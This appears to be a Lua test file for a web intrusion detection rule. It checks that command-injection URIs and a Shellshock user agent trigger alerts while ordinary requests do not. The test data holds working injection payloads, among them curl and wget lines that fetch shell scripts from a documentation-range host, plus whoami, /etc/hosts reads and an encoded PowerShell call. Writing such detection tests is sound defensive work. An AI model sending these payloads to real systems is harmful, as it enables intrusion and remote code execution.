local function get(target, ip, agent)
  return { src_ip = ip or "203.0.113.9", method = "GET", uri = target, route = target, status = 404, user_agent = agent }
end

test("each of these fires, once for its address", function(t)
  local attacks = {
    [==[/ping?host=1.1.1.1;cat%20/etc/hosts]==],
    [==[/run?cmd=%7Cwhoami]==],
    [==[/x?a=$(curl%20http://203.0.113.1/x.sh)]==],
    [==[/x?f=powershell%20-enc%20SQBFAFgA]==],
    [==[/x?a=%60id%60]==],
    [==[/x?p=;wget+http://203.0.113.7/m.sh+-O+-]==],
  }
  for i, target in ipairs(attacks) do
    t:feed(get(target, "203.0.113." .. i)):times(3):every("1s")
  end
  t:expect { fires = #attacks, severity = "medium" }
end)

test("ordinary requests stay quiet", function(t)
  local ordinary = {
    [==[/]==],
    [==[/blog/2026/01/on-selecting-a-database?utm_source=feed]==],
    [==[/search?q=rock+%26+roll]==],
    [==[/products?sort=price&order=asc&page=2]==],
    [==[/api/v1/users/42/orders?from=2026-01-01&to=2026-02-01]==],
    [==[/wiki/Union_of_European_Football_Associations]==],
    [==[/login?next=%2Faccount]==],
    [==[/static/app.3f2a.js]==],
    [==[/search?q=cat+food]==],
    [==[/search?q=find+a+time+to+sleep]==],
    [==[/list?fields=id|name|type]==],
    [==[/docs;v=2/sort]==],
  }
  for _, target in ipairs(ordinary) do t:feed(get(target)) end
  t:expect_quiet()
end)

test("Shellshock in the user agent fires", function(t)
  t:feed(get("/cgi-bin/status", nil, "() { :; }; /bin/bash -c 'ping -c 3 203.0.113.1'"))
  t:expect { fires = 1 }
end)
